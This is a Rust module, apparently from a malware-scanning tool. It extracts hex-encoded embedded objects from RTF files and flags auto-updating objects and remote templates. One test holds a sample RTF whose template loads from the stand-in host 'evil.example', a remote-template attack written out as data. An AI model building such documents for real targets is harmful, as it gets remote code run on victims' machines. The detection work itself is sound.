//! RTF documents: objects written as hexadecimal digits, and templates from elsewhere.

use crate::findings::Findings;
use serde_json::{Value, json};
use weir_scan::plain::shown;

const OBJECTS_MAX: usize = 50;
const OBJECT_MAX: usize = 32 << 20;
const OLE: &[u8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1";

pub(super) fn look(data: &[u8], findings: &mut Findings<'_>) -> Result<Value, String> {
    let has = |word: &str| memchr::memmem::find(data, word.as_bytes()).is_some();
    let (updates, mut objects, mut used) = (has("\\objupdate"), 0, 0);
    let mut starts: Vec<usize> =
        memchr::memmem::find_iter(data, b"\\objdata").take(OBJECTS_MAX + 1).map(|at| at + 8).collect();
    if starts.len() > OBJECTS_MAX {
        starts.truncate(OBJECTS_MAX);
        findings.unknown("limit", format!("more than {OBJECTS_MAX} objects"));
    }
    let ends = starts.iter().skip(1).copied().chain([data.len()]);
    for (start, end) in starts.iter().zip(ends) {
        let object = digits(&data[*start..end], OBJECT_MAX.saturating_sub(used));
        used += object.len();
        objects += 1;
        if used >= OBJECT_MAX {
            findings.unknown("limit", format!("objects of more than {} MiB", OBJECT_MAX >> 20));
        }
        // Before the compound file stand a class and a length, which others than Office do not need.
        let start = memchr::memmem::find(&object, OLE).unwrap_or(0);
        let kept = findings.child(&format!("object-{objects}.bin"), &object[start..]);
        kept.map_err(|error| format!("a file cannot be written: {error}"))?;
    }
    let template = memchr::memmem::find(data, b"\\*\\template").map(|at| template(&data[at + 11..]));
    if let Some(target) = template.as_ref().filter(|target| target.contains("://") || target.starts_with("\\\\")) {
        findings.suspicious("fetches", format!("a template from {target}"));
        findings.observable("url", target);
    }
    if objects > 0 && updates {
        findings.suspicious("embedded", "an object that runs when the document is opened");
    } else if objects > 0 {
        findings.info("embedded", objects.to_string());
    }
    Ok(json!({ "format": "RTF", "objects": objects, "updates_by_itself": updates, "template": template }))
}

/// The octets that hexadecimal digits spell, up to the end of the group. Controls in between are passed over, as readers do.
fn digits(text: &[u8], most: usize) -> Vec<u8> {
    let (mut out, mut high, mut at) = (Vec::new(), None, 0);
    while let Some(byte) = text.get(at).filter(|_| out.len() < most) {
        at += 1;
        match byte {
            b'}' => break,
            b'\\' => {
                let ends = |c: &u8| !c.is_ascii_alphanumeric() && *c != b'\'';
                at += text[at..].iter().position(ends).unwrap_or(text.len() - at);
            }
            _ => {
                let Some(digit) = char::from(*byte).to_digit(16) else { continue };
                match high.take() {
                    None => high = Some(digit),
                    Some(high) => out.push((high << 4 | digit) as u8),
                }
            }
        }
    }
    out
}

fn template(text: &[u8]) -> String {
    let end = text.iter().position(|byte| matches!(byte, b'}' | b'{')).unwrap_or(text.len()).min(500);
    shown(String::from_utf8_lossy(&text[..end]).trim(), 500)
}

#[cfg(test)]
mod tests {
    use super::super::tests::{said, suspicions};
    use super::*;
    use crate::fixtures;

    #[test]
    fn an_object_that_runs_by_itself() {
        let data = fixtures::rtf();
        assert_eq!(suspicions(&data), ["embedded an object that runs when the document is opened"]);
        assert_eq!(said(&data).1, ["object-1.bin"]);
    }

    #[test]
    fn digits_between_controls() {
        assert_eq!(digits(b" 0 1\r\n\\bin0 0a}ff", 100), [1, 0x0a]);
        assert_eq!(digits(b"010203", 2), [1, 2]);
        assert_eq!(digits(b"\\", 2), Vec::<u8>::new());
    }

    #[test]
    fn a_template_from_elsewhere() {
        let data = b"{\\rtf1{\\*\\template http://evil.example/a.dotm}}";
        assert_eq!(suspicions(data), ["fetches a template from http://evil.example/a.dotm"]);
    }
}
